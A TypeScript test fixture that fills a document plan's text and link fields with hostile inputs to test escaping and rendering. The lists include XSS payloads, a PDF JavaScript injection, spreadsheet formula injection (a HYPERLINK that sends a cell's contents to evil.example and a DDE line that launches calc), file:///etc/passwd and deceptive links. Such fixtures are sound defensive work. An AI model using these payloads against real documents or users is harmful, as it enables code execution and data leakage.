/** A plan in which every text is one that breaks programs: what people paste, and what somebody with bad intent would type. */
import type { Plan } from '../../functions/plan/schema.ts';
import { type Column, coverItems, rowsTabs } from '../../functions/plan/sheet-layout.ts';

export const HOSTILE_TEXTS = [
  'Siân Tŷ-Gŵyr a Łucja Żółć, w\u0302yn wedi ei gyfansoddi',
  '<script>alert(1)</script> & "quoted" \'single\' <img src=x onerror=alert(1)> ]]> <!-- -->',
  ') Tj ET EMC endstream endobj /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> \\',
  '\u202egnirts desrever a\u202c \u2066isolated\u2069 עברית العربية',
  '👩‍👩‍👧‍👦 👍🏽 🏴󠁧󠁢󠁷󠁬󠁳󠁿 中文 日本語 नमस्ते',
  'Z̸̛̟a̶͖͒l̵̡̈ĝ̷̳o and ﷽',
  'lone \ud800 and \udc00 halves, \ufeff mark, \ufffe \uffff',
  'tab\tnull\0bell\u0007escape\u001b[31m\u0085\u2028\u2029end',
  'line one\r\nline two\rline three\n\n\nline four',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '+44 20 7946 0000',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '＝1+1 ＋ － ＠',
  '\t=1+1',
  'Wort-ohne-Ende'.repeat(30),
  'x'.repeat(900),
  '\u200b\u200c\u200d\u2060\ufeff',
  ' \u00a0\u2003 ',
  'javascript:alert(1) file:///etc/passwd \\\\host\\share http://www.exampleshire.example mailto:a@b.example',
] as const;

export const HOSTILE_LINKS = [
  'javascript:alert(1)',
  'JavaScript:alert(1)//https://',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  '\\\\host\\share\\minutes.docx',
  'http://www.exampleshire.example/minutes',
  'mailto:head@exampleshire.example',
  'https://www.gov.uk@evil.example/',
  'https://user:secret@evil.example/',
  'https://',
  'https://ex ample.example/',
  ' https://www.exampleshire.example/e01',
  'https://www.exampleshire.example/a"onmouseover="alert(1)',
  'https://www.exampleshire.example/)>>/S/JavaScript/JS(x)',
  'https://gоv.uk/cyrillic-o',
  'https://tŷ.example/cofnodion',
  'vbscript:msgbox(1)',
  '//evil.example/',
] as const;

const isText = ({ kind }: Column): boolean => kind === 'text' || kind === 'long text';

/** `text` gives the words of each free text, `link` those of each link; Refs, dates, figures and choices stay. */
export const withTexts = (plan: Plan, text: () => string, link: () => string): Plan => {
  const filled = <Row extends object>(row: Row, columns: readonly Column[]): Row => {
    const texts = columns.filter(isText).map(({ field }) => [field, text()]);
    const links = columns.filter(({ kind }) => kind === 'link').map(({ field }) => [field, link()]);
    return { ...row, ...Object.fromEntries([...texts, ...links]) };
  };
  return {
    ...plan,
    cover: filled(plan.cover, coverItems as readonly Column[]),
    ...Object.fromEntries(rowsTabs.map((tab) => [tab.key, plan[tab.key].map((row) => filled(row, tab.columns))])),
  };
};

const turning = (words: readonly string[]): (() => string) => {
  let n = -1;
  return () => {
    n += 1;
    return words[n % words.length]!;
  };
};

/** Each hostile text and link in turn. */
export const hostile = (plan: Plan): Plan => withTexts(plan, turning(HOSTILE_TEXTS), turning(HOSTILE_LINKS));
